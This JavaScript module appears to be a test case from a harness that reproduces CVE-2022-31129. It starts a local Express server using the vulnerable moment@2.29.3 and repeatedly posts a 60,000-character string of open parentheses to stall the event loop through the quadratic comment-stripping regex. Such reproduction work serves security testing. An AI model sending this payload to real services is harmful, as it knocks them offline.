// Comments of RFC 2822 are taken out by an expression whose time grows with the square of the input.
module.exports = {
  expects: "event_loop_stall",
  pkg: "moment@2.29.3",
  issue: "CVE-2022-31129",
  ms: 7_000,
  start() {
    const moment = require("moment2293");
    const express = require("express");
    const app = express();
    app.use(express.text({ limit: "1mb" }));
    app.get("/health", (_request, response) => response.send("ok"));
    app.post("/", (request, response) => response.send(String(moment(request.body).isValid())));
    return app;
  },
  async trigger({ req, sleep, stop }) {
    const body = "(".repeat(60_000);
    const headers = { "content-type": "text/plain", "content-length": body.length };
    while (!stop.v) {
      req({ path: "/", method: "POST", headers, body });
      await sleep(1_500);
    }
  },
};
